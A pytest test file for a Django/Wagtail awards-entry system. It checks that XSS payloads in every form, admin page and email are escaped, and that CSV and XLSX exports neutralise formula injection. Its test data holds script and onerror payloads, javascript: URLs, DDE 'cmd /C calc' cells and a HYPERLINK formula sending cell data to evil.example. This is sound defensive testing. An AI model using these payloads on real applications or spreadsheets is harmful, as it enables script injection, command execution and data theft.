"""Script payloads in every field anyone can type into, on every page and file that shows them.

Entrants type answers, their name and organisation; editors type page titles,
question labels, help text, choices, section headings and guidance; organisers
type reasons. Each payload is unique to its field, so a test can say both
"the raw markup is nowhere" and "this field's text is here, escaped".
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.contrib.auth.models import Group
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook
from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter

from awards.tests.builders import build_category, build_programme
from forms import staff_actions
from forms.exports import FORMULA_PREFIXES
from forms.models import Entry, EntryStatus
from forms.tests.builders import build_entry_form, build_user, question

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

# What an unescaped payload would leave in a page; none of it is ever there.
RAW = ["<script>alert(", "<img src=x", "<b>dd</b>", "<i>mm</i>"]
JAVASCRIPT_URL = re.compile(r"""(href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.I)


def payload(tag: str) -> str:
    return (
        f'<script>alert("{tag}")</script>"><img src=x onerror=alert("{tag}")> javascript:alert(1)'
    )


# Answers that are hostile and still valid, so the entry can be submitted.
EMAIL_ANSWER = "\"<script>alert('email')</script>\"@example.org"
URL_ANSWER = 'https://example.org/?q="><script>alert("url")</script>'


def rich_text(tag: str) -> str:
    """What the admin's rich text editor stores when an editor types a payload and links it
    to a javascript: address (Draftail's contentstate, converted as Wagtail converts it)."""
    text = payload(tag)
    contentstate = {
        "blocks": [
            {
                "key": "a1b2c",
                "type": "unstyled",
                "depth": 0,
                "text": text,
                "inlineStyleRanges": [],
                "entityRanges": [{"offset": 0, "length": len(text), "key": 0}],
                "data": {},
            }
        ],
        "entityMap": {
            "0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "javascript:alert(1)"}}
        },
    }
    converter = ContentstateConverter(features=["bold", "italic", "link", "ul", "ol"])
    return converter.to_database_format(json.dumps(contentstate))


def assert_safe(html: str, *tags: str, rich: tuple[str, ...] = (), exact: tuple[str, ...] = ()):
    """No raw payload anywhere; each field's text present, escaped."""
    for raw in RAW:
        at = html.find(raw)
        assert at == -1, f"unescaped {raw!r}: …{html[max(0, at - 200) : at + 100]}…"
    found = JAVASCRIPT_URL.search(html)
    assert not found, (
        f"a javascript: address in markup: …{html[found.start() - 100 : found.end() + 50]}…"
    )
    for tag in tags:
        assert escape(payload(tag)) in html, f"{tag!r} is not shown, escaped"
    for text in exact:
        assert escape(text) in html, f"{text!r} is not shown, escaped"
    for tag in rich:  # rich text is escaped by the converter, quotes kept as they are
        assert f"&lt;script&gt;alert(&quot;{tag}&quot;)" in html or (
            f'&lt;script&gt;alert("{tag}")' in html
        ), f"rich text {tag!r} is not shown, escaped"


# Shown wherever answers are summarised (review, detail, inspect, print) ...
SUMMARY_TAGS = ("heading", "label-short", "label-long", "label-choice", "label-multiple")
ANSWER_TAGS = ("answer-short", "answer-long", "choice", "multi")
# ... and on the form itself, with help text and every choice.
FORM_TAGS = (*SUMMARY_TAGS, "help-short", "label-email", "label-url", "label-number")
FORM_TAGS += ("label-date", "label-file", "choice", "multi", "answer-short", "answer-long")


@pytest.fixture
def hostile_form(db):
    return build_entry_form(
        title=payload("form-title"),
        sections=[
            (
                "section",
                {
                    "heading": payload("heading"),
                    "guidance": rich_text("guidance"),
                    "questions": [
                        question(
                            "short_text",
                            "organisation_name",
                            payload("label-short"),
                            help_text=payload("help-short"),
                        ),
                        question("long_text", "story", payload("label-long")),
                        question("email", "contact", payload("label-email")),
                        question("url", "website", payload("label-url"), required=False),
                        question("number", "staff", payload("label-number"), required=False),
                        question("date", "started", payload("label-date"), required=False),
                        question(
                            "single_choice",
                            "kind",
                            payload("label-choice"),
                            choices=[payload("choice"), "Charity"],
                        ),
                        question(
                            "multiple_choice",
                            "who",
                            payload("label-multiple"),
                            choices=[payload("multi"), "Staff"],
                        ),
                        question(
                            "file",
                            "evidence",
                            payload("label-file"),
                            required=False,
                            file_types=["pdf"],
                            max_size_mb=1,
                        ),
                    ],
                },
            )
        ],
    )


@pytest.fixture
def hostile_category(home_page, hostile_form):
    programme = build_programme(home_page, title=payload("programme"), slug="programme")
    return build_category(
        programme, title=payload("category"), slug="category", entry_form=hostile_form
    )


@pytest.fixture
def hostile_entrant(db):
    return build_user(
        "hostile@example.org",
        first_name=payload("first"),
        last_name=payload("last"),
        organisation=payload("org"),
    )


@pytest.fixture
def manager(db):
    user = build_user("manager@example.org", is_staff=True)
    user.groups.add(Group.objects.get(name="Entries managers"))
    return user


VALID_HOSTILE_ANSWERS = {
    "organisation_name": payload("answer-short"),
    "story": payload("answer-long"),
    "contact": EMAIL_ANSWER,
    "website": URL_ANSWER,
    "staff": "12",
    "started-day": "1",
    "started-month": "4",
    "started-year": "2024",
    "kind": payload("choice"),
    "who": [payload("multi")],
}


@pytest.fixture
def hostile_entry(client, hostile_entrant, hostile_category):
    """A draft saved through the entrant's own form, the way a browser would send it."""
    client.force_login(hostile_entrant)
    client.post(reverse("entry_start", args=[hostile_category.pk]))
    entry = Entry.objects.get(entrant=hostile_entrant)
    response = client.post(
        reverse("entry_save", args=[entry.public_id]),
        {
            "version": entry.version,
            "action": "save",
            **VALID_HOSTILE_ANSWERS,
            "evidence": SimpleUploadedFile('"><img src=x onerror=alert("file")>.pdf', PDF),
        },
    )
    assert response.status_code == 302
    entry.refresh_from_db()
    assert entry.answers["story"] == payload("answer-long")  # stored exactly as typed
    return entry


# Entrant pages ---------------------------------------------------------------------


def test_the_category_page_with_the_draft_form_escapes_everything(
    client, hostile_entry, hostile_category
):
    response = client.get(hostile_category.url)
    assert response.status_code == 200
    assert_safe(
        response.text, "category", *FORM_TAGS, rich=("guidance",), exact=(EMAIL_ANSWER, URL_ANSWER)
    )
    # Wagtail's converter kept the editor's link but dropped its javascript: address.
    guidance = re.search(r'<div class="form-section__guidance">(.*?)</div>', response.text, re.S)
    assert "<a>" in guidance[1] and "href" not in guidance[1]


def test_draft_only_payloads_are_escaped_where_a_valid_answer_would_be(
    client, hostile_entry, hostile_category
):
    """A draft keeps what was typed, even where it is not a valid answer yet."""
    response = client.post(
        reverse("entry_save", args=[hostile_entry.public_id]),
        {
            "version": hostile_entry.version,
            "action": "save",
            "website": "javascript:alert(1)",
            "staff": payload("answer-number"),
            "started-day": "<b>dd</b>",
            "started-month": "<i>mm</i>",
            "started-year": '"><img x>',
            "kind": payload("answer-not-a-choice"),
        },
    )
    assert response.status_code == 302
    for url in [hostile_category.url, reverse("entry_review", args=[hostile_entry.public_id])]:
        html = client.get(url).text
        assert_safe(html, "answer-number", exact=("<b>dd</b>", "<i>mm</i>", '"><img x>'))
        assert escape("javascript:alert(1)") in html
    review = client.get(reverse("entry_review", args=[hostile_entry.public_id])).text
    assert escape(payload("answer-not-a-choice")) in review


def test_review_detail_and_my_entries_escape_everything(client, hostile_entry):
    review = client.get(reverse("entry_review", args=[hostile_entry.public_id]))
    assert_safe(
        review.text, "category", *SUMMARY_TAGS, *ANSWER_TAGS, exact=(EMAIL_ANSWER, URL_ANSWER)
    )
    detail = client.get(reverse("entry_detail", args=[hostile_entry.public_id]))
    assert_safe(detail.text, *SUMMARY_TAGS, *ANSWER_TAGS, exact=(EMAIL_ANSWER, URL_ANSWER))
    # The uploaded file's name is shown as kept (cleaned or not), always escaped.
    assert escape(hostile_entry.files.get().original_name) in detail.text
    listing = client.get(reverse("my_entries"))
    assert_safe(listing.text, "category", "programme")


def test_a_refused_save_page_and_its_messages_escape_the_labels(client, hostile_entry):
    """The label is quoted in error messages: in the page and in the autosave's JSON."""
    too_long = "x" * 50_001
    response = client.post(
        reverse("entry_save", args=[hostile_entry.public_id]),
        {"version": hostile_entry.version, "action": "save", "story": too_long},
    )
    assert response.status_code == 400
    assert_safe(response.text, "label-long")
    as_json = client.post(
        reverse("entry_save", args=[hostile_entry.public_id]),
        {"version": hostile_entry.version, "story": too_long},
        headers={"accept": "application/json"},
    )
    assert as_json["Content-Type"] == "application/json"  # never sniffed as HTML
    assert payload("label-long") in as_json.json()["message"]  # shown with textContent


def test_the_account_profile_and_search_escape_what_people_typed(client, hostile_entry):
    profile = client.get(reverse("account_profile"))
    assert_safe(profile.text, "first", "last", "org")
    search = client.get(reverse("search"), {"q": payload("search")})
    assert_safe(search.text, "search")


# Submission, emails and the organisers' side -------------------------------------------


@pytest.fixture
def submitted(client, hostile_entry, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("entry_submit", args=[hostile_entry.public_id]),
            {"version": hostile_entry.version},
        )
    assert response.status_code == 302, response.content[:2000]
    hostile_entry.refresh_from_db()
    assert hostile_entry.status == EntryStatus.SUBMITTED
    return hostile_entry


def test_emails_escape_names_titles_and_reasons(
    submitted, manager, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        staff_actions.reopen_entry(entry=submitted, by=manager, reason=payload("reason-reopen"))
        submitted.refresh_from_db()
        staff_actions.withdraw_entry(entry=submitted, by=manager, reason=payload("reason-out"))
    kinds = {"Entry received": "", "reopened": "reason-reopen", "withdrawn": "reason-out"}
    assert len(mail.outbox) == 3
    for message, (subject, reason_tag) in zip(mail.outbox, kinds.items(), strict=True):
        assert subject in message.subject
        assert "\n" not in message.subject
        html, mime = message.alternatives[0]
        assert mime == "text/html"
        assert_safe(html, "first", "category", *([reason_tag] if reason_tag else []))
        assert payload("first") in message.body  # the plain-text part is plain text


def test_admin_listing_inspect_and_print_escape_everything(
    client, submitted, manager, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        staff_actions.reopen_entry(entry=submitted, by=manager, reason=payload("reason"))
    client.force_login(manager)

    listing = client.get(reverse("forms_entry_modeladmin_index"))
    assert listing.status_code == 200
    assert_safe(listing.text, "answer-short", "category", "programme")
    assert escape(f"{payload('first')} {payload('last')}") in listing.text
    found = client.get(reverse("forms_entry_modeladmin_index"), {"q": "hostile@example.org"})
    assert_safe(found.text, "answer-short")

    inspect = client.get(reverse("forms_entry_modeladmin_inspect", args=[submitted.pk]))
    assert inspect.status_code == 200
    assert_safe(
        inspect.text,
        "first",
        "last",
        "org",
        "category",
        "reason",
        *SUMMARY_TAGS,
        *ANSWER_TAGS,
        exact=(EMAIL_ANSWER, URL_ANSWER),
    )

    printable = client.get(reverse("entries_admin_print", args=[submitted.pk]))
    assert_safe(
        printable.text,
        "first",
        "org",
        "category",
        *SUMMARY_TAGS,
        *ANSWER_TAGS,
        exact=(EMAIL_ANSWER, URL_ANSWER),
    )

    action = client.get(reverse("entries_admin_withdraw", args=[submitted.pk]))
    assert action.status_code == 200
    assert_safe(action.text)


# Exports: text stays text, and no cell is a formula ----------------------------------

FORMULAS = {
    "first_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "last_name": "+cmd|' /C calc'!A0",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA_ANSWERS = {
    "organisation_name": "=1+1",
    "story": "-2+3",
    "contact": "\t=1+1",
    "website": "\r=1+1",
}

# As the export writes them: the entrant's full name, the organisation, each answer.
FORMULA_CELLS = [
    f"{FORMULAS['first_name']} {FORMULAS['last_name']}",
    FORMULAS["organisation"],
    *FORMULA_ANSWERS.values(),
]


@pytest.fixture
def exported_entries(client, submitted, home_page, manager, hostile_category):
    attacker = build_user("formula@example.org", **FORMULAS)
    Entry.objects.create(
        entrant=attacker,
        page=hostile_category,
        form=hostile_category.entry_form,
        answers=FORMULA_ANSWERS,
    )
    client.force_login(manager)
    return [submitted]


def export(client, fmt):
    return client.get(reverse("forms_entry_modeladmin_index"), {"export": fmt})


def test_csv_export_keeps_payloads_as_text_and_runs_no_formula(client, exported_entries):
    response = export(client, "csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert payload("answer-long") in cells  # exactly as typed: a CSV is not a web page
    assert payload("label-long") in rows[0]
    for value in FORMULA_CELLS:
        assert "'" + value in cells, value
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert dangerous == []


def test_xlsx_export_has_no_formula_cells(client, exported_entries):
    response = export(client, "xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook["Entries"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [str(c.value) for c in cells]
    assert payload("answer-long") in values
    for value in FORMULA_CELLS:
        if value.isprintable():  # XLSX stores a carriage return its own way
            assert "'" + value in values, value
    assert [v for v in values if v.startswith(FORMULA_PREFIXES)] == []


def test_an_editors_formula_in_a_question_label_is_neutralised_in_the_header(
    client, home_page, manager
):
    """Editors write the questions, organisers open the export: the header row is data too."""
    form = build_entry_form(
        sections=[
            (
                "section",
                {
                    "heading": "Only",
                    "guidance": "",
                    "questions": [
                        question("short_text", "q", '=HYPERLINK("https://evil.example")')
                    ],
                },
            )
        ]
    )
    category = build_category(build_programme(home_page), entry_form=form)
    entrant = build_user("header@example.org")
    Entry.objects.create(entrant=entrant, page=category, form=form, answers={"q": "fine"})
    client.force_login(manager)
    text = b"".join(export(client, "csv").streaming_content).decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    assert "'" + '=HYPERLINK("https://evil.example")' in header
    assert [cell for cell in header if cell.startswith(FORMULA_PREFIXES)] == []
